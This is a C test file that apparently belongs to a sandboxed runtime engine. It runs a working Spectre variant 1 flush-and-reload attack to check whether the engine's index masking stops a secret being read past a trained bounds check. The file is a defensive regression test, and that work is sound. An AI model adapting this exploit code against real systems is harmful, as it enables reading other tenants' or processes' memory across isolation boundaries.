/* tests/spectre/spectre.c - Spectre, variant 1, by flush and reload: what is read beyond a bounds
 * check that was trained to pass, with the engine's index mask and without.
 * SPDX-License-Identifier: Apache-2.0
 *
 * Compiled with -DWRT_INDEX_MASKING=0 or 1 (src/engine/masking.h). The victim has the shape of a
 * guest's load followed by a load at an address made of its result. The attacker calls it with
 * good indexes, then once with one that leads to a secret; the check fails, as it must, and the
 * cache tells what was read meanwhile. Prints how many of 16 secret bytes came out. x86-64 only.
 */
#include "engine/masking.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <x86intrin.h>

enum { LINE = 512, VALUES = 256, ROUNDS = 400, SECRET_BYTES = 16, TRAINING = 29 };

static uint8_t probe[VALUES * LINE] __attribute__((aligned(4096)));
static struct {
    uint8_t memory[64];
    uint8_t gap[192];
    char secret[SECRET_BYTES + 1];
} space = {.secret = "of another guest"};
static volatile uint64_t limit __attribute__((aligned(128))) = 64;
static volatile uint8_t sink;

/* As LOAD_AT in the interpreter: one compare, the mask, the load; then the guest's next load. */
__attribute__((noinline)) static void victim(uint64_t index)
{
    const uint64_t bytes = limit;

    if (index + 1 > bytes)
        return; /* the trap */
    index = wrt_mask_index(index, bytes);
    sink &= probe[space.memory[index] * LINE];
}

static void attack(uint64_t beyond, unsigned round)
{
    for (int i = TRAINING; i >= 0; i--) {
        _mm_clflush((const void *)&limit);
        for (volatile int wait = 0; wait < 100; wait++)
            continue;
        /* Each tenth is the bad one, chosen without a branch that would tell the predictor. */
        uint64_t bad = (uint64_t)((i % 10) - 1) & ~UINT64_C(0xFFFF);
        bad |= bad >> 16;
        const uint64_t good = round % 16 + 1;
        victim(good ^ (bad & (beyond ^ good)));
    }
}

static uint64_t time_of(const uint8_t *at)
{
    unsigned unused;
    const uint64_t from = __rdtscp(&unused);
    sink = *(const volatile uint8_t *)at;
    return __rdtscp(&unused) - from;
}

static uint64_t threshold(void) /* between a cached and a flushed load */
{
    uint64_t near = 0, far = 0;

    for (int i = 0; i < 2000; i++) {
        sink = probe[0];
        near += time_of(probe);
        _mm_clflush(probe);
        _mm_mfence();
        far += time_of(probe);
    }
    return (near + far) / 4000;
}

static int guess(uint64_t beyond, uint64_t limit_ticks)
{
    static unsigned hits[VALUES];
    int best = 0;

    memset(hits, 0, sizeof hits);
    for (unsigned round = 0; round < ROUNDS; round++) {
        for (int v = 0; v < VALUES; v++)
            _mm_clflush(&probe[v * LINE]);
        _mm_mfence();
        attack(beyond, round);
        for (int i = 0; i < VALUES; i++) {
            const int v = (i * 167 + 13) & 255; /* in an order that is not prefetched */
            if (time_of(&probe[v * LINE]) <= limit_ticks && v != 0)
                hits[v]++; /* 0 is what the good indexes read */
        }
    }
    for (int v = 1; v < VALUES; v++) {
        if (hits[v] > hits[best])
            best = v;
    }
    return hits[best] >= ROUNDS / 20 ? best : -1;
}

int main(void)
{
    const uint64_t ticks = threshold();
    int right = 0;

    memset(probe, 1, sizeof probe);
    for (uint64_t i = 0; i < SECRET_BYTES; i++) {
        const uint64_t beyond = (uint64_t)(&space.secret[i] - (char *)space.memory);
        right += guess(beyond, ticks) == (uint8_t)space.secret[i];
    }
    printf("%d of %d bytes\n", right, SECRET_BYTES);
    return 0;
}
